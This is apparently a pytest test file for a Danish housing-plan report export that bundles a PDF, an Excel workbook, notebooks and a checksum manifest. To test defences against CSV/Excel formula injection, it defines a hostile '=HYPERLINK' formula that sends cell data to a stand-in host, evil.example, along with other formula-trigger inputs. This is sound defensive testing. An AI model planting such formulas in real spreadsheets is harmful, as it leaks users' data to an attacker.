"""The LBF export: one zip with the PDF, the workbook, the executed notebooks and a manifest.

The export is built once (module fixture, ~10 s for the report build) in a scratch copy of the
project; tests that change things work on copies of that built project, which the export finds
up to date (copytree keeps file dates), so only the first export builds the report.
"""

import hashlib
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from helhedsplan import config, export, indicators, report, sheets
from helhedsplan.indicators import COLUMNS

from .conftest import D, processed_dir, project_copy, report_dir, run_cli

ZIP_NAME = "Aktiv-i-faellesskabet_Sammenhaengskraft-og-medborgerskab_2024.zip"
XLSX = "statusrapport_2024_tal.xlsx"
PDF = "statusrapport_2024.pdf"
MALICIOUS = '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")'


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    root = project_copy(tmp_path_factory.mktemp("projekt"))
    messages = []
    # Built, and checked for freshness below, with the built-in renderer: "auto" would mean
    # Quarto wherever one is on PATH (as in CI), and a change of renderer makes a build stale.
    path = export.build_export(2024, root=root, renderer="indbygget", log=messages.append)
    unpacked = tmp_path_factory.mktemp("pakke")
    with zipfile.ZipFile(path) as zf:
        zf.extractall(unpacked)
        names = zf.namelist()
    return dict(root=root, zip=path, messages=messages, unpacked=unpacked, names=names)


@pytest.fixture()
def built_copy(exported, tmp_path):
    """A copy of the built project (file dates kept) that a test may change. Its PDF is dated
    now, as if just built, so an edit of the program during the test run does not count."""
    root = Path(shutil.copytree(exported["root"], tmp_path / "kopi"))
    os.utime(report_dir(root, 2024) / "statusrapport.pdf")
    return root


def _table(root: Path) -> pd.DataFrame:
    return indicators.read(processed_dir(root))


def _openpyxl_rows(path: Path, sheet: str) -> list[tuple]:
    return [tuple(c.value for c in row) for row in openpyxl.load_workbook(path)[sheet].iter_rows()]


def _calamine_rows(path: Path, sheet: str) -> list[list]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python()


def _expected_cell(col: str, x):
    """What the workbook must hold for one value of indikatorer.csv (None = empty cell)."""
    if col in export.BOOLEAN_COLUMNS:
        return "ja" if x else "nej"
    if isinstance(x, str):
        return sheets.safe_text(x) if x else None
    if pd.isna(x):
        return None
    return float(x)


def _check_indicator_sheet(xlsx: Path, table: pd.DataFrame):
    header = [export.INDICATOR_HEADERS[c] for c in COLUMNS]
    for reader, empty in ((_openpyxl_rows, None), (_calamine_rows, "")):
        rows = reader(xlsx, "Indikatorer")
        assert list(rows[0]) == header, reader.__name__
        body = [r for r in rows[1:] if any(v not in (None, "") for v in r)]
        assert len(body) == len(table), reader.__name__
        for i, (got, (_, want)) in enumerate(zip(body, table.iterrows(), strict=True)):
            for col, g in zip(COLUMNS, got, strict=True):
                e = _expected_cell(col, want[col])
                where = f"{reader.__name__}: række {i + 2}, {col}"
                if e is None:
                    assert g == empty, where
                elif isinstance(e, float):
                    # Excel keeps 15 significant digits; openpyxl writes 16 ("%.16g")
                    assert isinstance(g, int | float), where
                    assert float(g) == pytest.approx(e, rel=1e-15, abs=0), where
                else:
                    assert g == e, where
            if want["undertrykt"]:
                for col in ("vaerdi", "taeller", "ci_lav", "ci_hoej", "aendring"):
                    assert got[COLUMNS.index(col)] == empty, f"{where}: undertrykt {col}"


# --- the package -----------------------------------------------------------------------------

@pytest.mark.slow
def test_one_zip_with_pdf_workbook_notebooks_and_manifest(exported):
    path, root = exported["zip"], exported["root"]
    assert path == report_dir(root) / ZIP_NAME
    assert path.name.isascii()
    assert any("bygges først" in m for m in exported["messages"])
    notebooks = {f"notesboeger/{p.name}" for p in (report_dir(root, 2024) / "notesbøger").glob("*.ipynb")}
    assert "notesboeger/statusrapport.ipynb" in notebooks
    assert set(exported["names"]) == {PDF, XLSX, "manifest.json", *notebooks}
    assert all(n.isascii() for n in exported["names"])
    # written atomically: no temporary file is left behind
    assert [p.name for p in path.parent.iterdir() if p.name.endswith(".tmp")] == []
    assert [p.name for p in (root / ".byg").iterdir()] == ["koersel.laas"]


@pytest.mark.slow
def test_pdf_in_the_zip_is_the_report(exported):
    report_pdf = report_dir(exported["root"], 2024) / "statusrapport.pdf"
    assert (exported["unpacked"] / PDF).read_bytes() == report_pdf.read_bytes()


@pytest.mark.slow
def test_manifest_checksums_match_the_files_and_the_inputs(exported):
    root, unpacked = exported["root"], exported["unpacked"]
    manifest = json.loads((unpacked / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["aar"] == 2024
    assert manifest["version"]
    assert "oprettet" not in manifest  # no build time: the same inputs give the same package
    assert manifest["rapportdato"] == "2025-03-01"  # the example's bemaerkninger.md for 2024
    assert manifest["delaftale"]["id"] == "sammenhaengskraft"
    listed = {f["fil"]: f for f in manifest["filer"]}
    assert set(listed) == set(exported["names"]) - {"manifest.json"}
    for name, entry in listed.items():
        data = (unpacked / name).read_bytes()
        assert entry["sha256"] == _sha(data), name
        assert entry["bytes"] == len(data), name
    inputs = {i["fil"]: i for i in manifest["delaftale"]["inddata"]}
    raw = {p.relative_to(root).as_posix() for p in (root / "data" / "raw").rglob("*.xlsx")
           if int(p.parent.name) <= 2024}
    assert raw <= set(inputs)  # every raw spreadsheet the build read is listed …
    for name, entry in inputs.items():  # … with the checksum of the file as it is
        assert entry["sha256"] == _sha((root / name).read_bytes()), name
    assert "config/delaftaler/sammenhaengskraft.yaml" in inputs
    # Only what LBF can check: the indicator table is not in the package, so no checksum of it
    # (issue 21.6); every number in the workbook traces to the inputs listed.
    assert "indikatortabel" not in manifest and "indikatortabel" not in manifest["delaftale"]
    assert not any(name.startswith("data/processed/") for name in inputs)


# --- the workbook ---------------------------------------------------------------------------

@pytest.mark.slow
def test_sheet_names_in_both_readers(exported):
    xlsx = exported["unpacked"] / XLSX
    assert openpyxl.load_workbook(xlsx).sheetnames == list(export.SHEETS)
    assert CalamineWorkbook.from_path(str(xlsx)).sheet_names == list(export.SHEETS)


@pytest.mark.slow
def test_indicator_sheet_equals_the_indicator_table(exported):
    _check_indicator_sheet(exported["unpacked"] / XLSX, _table(exported["root"]))


@pytest.mark.slow
def test_no_cell_holds_a_formula(exported):
    xlsx = exported["unpacked"] / XLSX
    wb = openpyxl.load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate}"
                assert not (isinstance(c.value, str) and c.value.startswith("=")), c.coordinate
    for sheet in export.SHEETS:
        for row in _calamine_rows(xlsx, sheet):
            assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in row)
    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name


@pytest.mark.slow
def test_layout_frozen_header_filters_formats_widths(exported):
    wb = openpyxl.load_workbook(exported["unpacked"] / XLSX)
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert all(c.font.bold for c in ws[1] if c.value), ws.title
        for letter, dim in ws.column_dimensions.items():
            # A checksum is read whole or not at all: its column fits its 64 characters.
            widest = 66 if "SHA-256" in str(ws[f"{letter}1"].value) else 62
            assert 6 <= dim.width <= widest, (ws.title, letter)
    ws = wb["Indikatorer"]
    col = {export.INDICATOR_HEADERS[c]: i for i, c in enumerate(COLUMNS)}
    for row in ws.iter_rows(min_row=2):
        if row[col["Værdi"]].value is None:
            continue
        enhed, decimals = row[col["Enhed"]].value, row[col["Decimaler"]].value
        want = "#,##0" + ("." + "0" * decimals if enhed == "pct." and decimals else "")
        assert row[col["Værdi"]].number_format == want
        assert row[col["År"]].number_format == "0"  # 2024, not 2.024


@pytest.mark.slow
def test_overview_is_page_one(exported):
    root = exported["root"]
    cfg = config.load(root, D)
    data = report.ReportData(cfg, 2024, _table(root), [])
    rows = _openpyxl_rows(exported["unpacked"] / XLSX, "Oversigt")
    head = list(rows[0])
    assert head[:8] == ["Delmål", "Indikator", "Opgjort for", "Enhed", "Baseline", "Baselineår",
                        "Seneste måling", "Målt år"]
    body = [r for r in rows[1:] if r[1]]  # the notes below the table have no indicator
    heads = report.headlines(cfg)
    assert len(body) == len(heads)  # a row per headline on page 1, the activity targets too
    for h, got in zip(heads, body, strict=True):
        r = dict(zip(head, got, strict=True))
        assert r["Delmål"] == h.delmaal.kort_navn and r["Indikator"] == h.name
        if h.ind.type == "aktivitetsmaal":
            assert r["Opgjort for"] == "kalenderår 2024" and r["Status"]
            continue
        latest = report.latest(data, h.indikator_id, h.niveau)
        assert r["Baseline"] == pytest.approx(latest["baseline_vaerdi"])
        assert r["Seneste måling"] == pytest.approx(latest["vaerdi"])
        assert r["Målt år"] == latest["aar"]
        assert r["Status"].startswith(report.MARKERS.get(latest["status"],
                                                         latest["status"].capitalize()))
    assert any(isinstance(r[0], str) and "EKSEMPELDATA" in r[0] for r in rows)


@pytest.mark.slow
def test_definitions_sources_and_activity_targets(exported):
    xlsx = exported["unpacked"] / XLSX
    root = exported["root"]
    cfg = config.load(root, D)
    defs = _openpyxl_rows(xlsx, "Definitioner")
    head = defs[0]
    for d, ind in cfg.indicators():  # a row per indicator, in the delaftale's words
        row = dict(zip(head, next(r for r in defs if r[0] == d.id and r[3] == ind.navn),
                       strict=True))
        assert row["Delmål (delaftalens ord)"] == d.delmaal and row["Datakilde"] == ind.datakilde
        assert row["God retning"].startswith(ind.god_retning)
        assert row["Type"] == ind.type
    sources = _openpyxl_rows(xlsx, "Datakilder")
    files = {r[0]: r for r in sources[1:] if r[0]}
    sab = files["data/raw/2024/sab_afdelingsmoeder.xlsx"]
    assert sab[5] == _sha((root / sab[0]).read_bytes())
    acts = _openpyxl_rows(xlsx, "Aktivitetsmål")
    head = acts[0]
    targets = [dict(zip(head, r, strict=True)) for r in acts[1:] if r[0] == "Mål"]
    got = {t["Aktivitet"]: t["Mål"] for t in targets}
    for t in cfg.activity_targets.maal:  # every target of the delaftale, with its figure
        assert got[t.navn] == t.pr_aar, t.navn
    assert got["Temaarrangementer i alt"] == 6  # the delaftale: six themed events a year
    assert got["Temaarrangementer uden for boligområderne med Frivillighedens Hus"] == 1


# --- neutralised text, suppressed cells, activity results (the workbook alone, fast) ---------

def test_ascii_names():
    assert export.ascii_slug("Aktiv i fællesskabet") == "Aktiv-i-faellesskabet"
    assert export.ascii_slug("Sammenhængskraft og medborgerskab") == \
        "Sammenhaengskraft-og-medborgerskab"
    assert export.ascii_slug("Søstjernevej m.fl. / Åbo") == "Soestjernevej-m-fl-Aabo"


@pytest.mark.parametrize("text", [MALICIOUS, "+45 12 34 56 78", "-1+2", "@SUM(1)", "\t=1+1",
                                  "\r=1+1"])
def test_safe_text_neutralises_formula_starts(text):
    out = sheets.safe_text(text)
    assert out == " " + text
    assert not out.startswith(sheets.FORMULA_TRIGGERS)
    assert sheets.safe_text("Afd. 22 = 6,3 pct.") == "Afd. 22 = 6,3 pct."  # only a leading one


@pytest.fixture(scope="module")
def tampered(exported, tmp_path_factory):
    """A workbook from the real table with hostile text, a suppressed row and activity results."""
    root = exported["root"]
    cfg = config.load(root, D)
    table = _table(root)
    table.loc[0, "note"] = MALICIOUS
    table.loc[1, "enhed_navn"] = "+45 12 34 56 78"
    table.loc[2, "kilde_fil"] = "@SUM(1)"
    table.loc[3, "note"] = "-1+2"
    table.loc[4, ["vaerdi", "taeller", "ci_lav", "ci_hoej", "aendring"]] = float("nan")
    table.loc[4, ["undertrykt", "note"]] = [True, "Færre end 3 personer: vises ikke (diskretion)"]
    activity = dict.fromkeys(COLUMNS, float("nan"))
    activity.update(delmaal_id=cfg.delmaal_of(cfg.activity_targets.id).id, indikator_id="temaarrangementer",
                    indikator="Temaarrangementer afholdt", niveau="helhedsplan",
                    enhed_navn="Hele helhedsplanen", enhed="antal", decimaler=0, aar=2024,
                    maalt=True, vaerdi=5.0, maal=6.0, status="mål ikke nået", undertrykt=False, note="",
                    kilde_fil="2024/aktiviteter.xlsx", eksempeldata=True)
    hidden = dict(activity, indikator_id="deltagere_uden_for", enhed_navn="Frivillighedens Hus",
                  vaerdi=float("nan"), undertrykt=True, note="Færre end 3 personer")
    table = pd.concat([table, pd.DataFrame([activity, hidden])], ignore_index=True)
    inputs = export.inputs_read(2024, root, cfg)
    inputs[0] = dict(inputs[0], kilde="=1+1")
    path = tmp_path_factory.mktemp("ondsindet") / "tal.xlsx"
    path.write_bytes(export.workbook_bytes(export.workbook(cfg, 2024, table, inputs)))
    return path, table


@pytest.mark.slow
def test_hostile_text_stays_text_in_both_readers(tampered):
    path, table = tampered
    wb = openpyxl.load_workbook(path)
    ws = wb["Indikatorer"]
    note = ws.cell(row=2, column=COLUMNS.index("note") + 1)
    assert note.value == " " + MALICIOUS and note.data_type == "s" and note.quotePrefix
    assert ws.cell(row=3, column=COLUMNS.index("enhed_navn") + 1).value == " +45 12 34 56 78"
    assert ws.cell(row=4, column=COLUMNS.index("kilde_fil") + 1).value == " @SUM(1)"
    assert ws.cell(row=5, column=COLUMNS.index("note") + 1).value == " -1+2"
    assert wb["Datakilder"]["B2"].value == " =1+1"
    cal = _calamine_rows(path, "Indikatorer")
    assert cal[1][COLUMNS.index("note")] == " " + MALICIOUS
    _check_indicator_sheet(path, table)  # suppressed cells empty, everything else equal


@pytest.mark.slow
def test_activity_results_appear_when_the_table_has_them(tampered):
    path, _ = tampered
    rows = _openpyxl_rows(path, "Aktivitetsmål")
    head = rows[0]
    results = [dict(zip(head, r, strict=True)) for r in rows
               if r[0] == "Resultat" and r[1] == "Temaarrangementer afholdt"]
    assert [(r["Periode"], r["År"], r["Mål"], r["Resultat"], r["Status"]) for r in results] == [
        ("Hele helhedsplanen", 2024, 6, 5, "Mål ikke nået"),
        ("Frivillighedens Hus", 2024, 6, None, "Mål ikke nået")]
    assert "Færre end 3" in results[1]["Note"]
    assert not any(r[0] and "ingen resultater" in str(r[0]) for r in rows)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice er ikke installeret")
def test_libreoffice_reads_every_sheet_and_keeps_hostile_text_as_text(tampered, tmp_path):
    path, _ = tampered
    run = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profil'}", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,"
         "false,-1", "--outdir", str(tmp_path), str(path)],
        capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    csvs = {p.stem.split("-", 1)[1]: p.read_text(encoding="utf-8") for p in tmp_path.glob("*.csv")}
    assert set(csvs) == set(export.SHEETS)
    assert '" =HYPERLINK(""http://evil.example' in csvs["Indikatorer"]  # text, not evaluated


# --- up to date or not ----------------------------------------------------------------------

@pytest.mark.slow
def test_reexport_does_not_rebuild(built_copy):
    messages = []
    path = export.build_export(2024, root=built_copy, renderer="indbygget", log=messages.append)
    assert any("bygges ikke igen" in m for m in messages), messages
    assert path.is_file()


def test_the_workbook_keeps_a_formula_in_the_table_as_text(processed_2024, cfg, tmp_path):
    table = indicators.compute(cfg, processed_2024, 2024)
    table.loc[0, "note"] = MALICIOUS
    (tmp_path / "x.xlsx").write_bytes(export.workbook_bytes(export.workbook(cfg, 2024, table, [])))
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx")["Indikatorer"]
    assert ws.cell(row=2, column=COLUMNS.index("note") + 1).value == " " + MALICIOUS


@pytest.mark.slow
def test_stale_reason_is_by_content_not_by_date(built_copy):
    root = built_copy
    assert export.stale_reason(2024, root, "indbygget", D) is None
    later = root / "data" / "raw" / "2031"  # a later year is not read for 2024
    later.mkdir()
    (later / "beboerdata.xlsx").write_bytes(b"x")
    assert export.stale_reason(2024, root, "indbygget", D) is None

    cfg = root / "config" / "delaftaler" / "sammenhaengskraft.yaml"
    stat = cfg.stat()
    os.utime(cfg, ns=(stat.st_atime_ns, stat.st_mtime_ns + 10**12))  # a newer date, same content
    assert export.stale_reason(2024, root, "indbygget", D) is None
    text = cfg.read_text(encoding="utf-8")
    cfg.write_text(text + "\n# ændret\n", encoding="utf-8")
    os.utime(cfg, ns=(stat.st_atime_ns, 0))  # new content with an old date: still stale
    assert "config/delaftaler/sammenhaengskraft.yaml er ændret" in export.stale_reason(
        2024, root, "indbygget", D)
    cfg.write_text(text, encoding="utf-8")
    assert export.stale_reason(2024, root, "indbygget", D) is None

    # a file replaced by another with an old date: caught by its checksum
    raw = root / "data" / "raw" / "2023" / "sab_afdelingsmoeder.xlsx"
    stat = raw.stat()
    original = raw.read_bytes()
    shutil.copy(root / "data" / "raw" / "2022" / "sab_afdelingsmoeder.xlsx", raw)
    os.utime(raw, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert "data/raw/2023/sab_afdelingsmoeder.xlsx er ændret" in export.stale_reason(
        2024, root, "indbygget", D)
    raw.write_bytes(original)

    (report_dir(root, 2024) / "statusrapport.pdf").unlink()
    assert "reports/2024/sammenhaengskraft/statusrapport.pdf mangler" in export.stale_reason(
        2024, root, "indbygget", D)


@pytest.mark.slow
def test_a_changed_table_is_stale(built_copy):
    csv = processed_dir(built_copy, 2024) / "indikatorer.csv"
    pd.read_csv(csv).drop(columns=["note"]).to_csv(csv, index=False)
    assert ("data/processed/2024/sammenhaengskraft/indikatorer.csv mangler eller er ændret"
            in export.stale_reason(2024, built_copy, "indbygget", D))


@pytest.mark.slow
def test_a_file_gone_from_the_year_folder_makes_it_stale(built_copy):
    (built_copy / "data" / "raw" / "2024" / "bemaerkninger.md").unlink()
    assert "data/raw/2024/bemaerkninger.md er fjernet" in export.stale_reason(2024, built_copy,
                                                                               "indbygget")


# --- the command line -------------------------------------------------------------------------

@pytest.mark.slow
def test_cli_prints_where_the_zip_is(built_copy):
    run = run_cli(built_copy, "eksport", "--aar", "2024", "--renderer", "indbygget")
    assert run.returncode == 0, run.stderr
    assert str(report_dir(built_copy) / ZIP_NAME) in run.stdout
    assert "bygges ikke igen" in run.stdout


def test_cli_unknown_year_is_a_danish_error(tmp_path):
    root = project_copy(tmp_path)
    run = run_cli(root, "eksport", "--aar", "2031")
    assert run.returncode == 1
    assert "FEJL: " in run.stderr and "Der er ingen inddata for 2031" in run.stderr
    assert "Traceback" not in run.stderr
    assert not (root / "reports" / "2031").exists()


def test_every_input_is_listed_once(built_project):
    """The comments file is recorded by the indicator stage; the export must not add it again."""
    root, _ = built_project
    files = [i["fil"] for i in export.inputs_read(2024, root, config.load(root, D))]
    assert "data/raw/2024/bemaerkninger.md" in files
    assert len(files) == len(set(files))
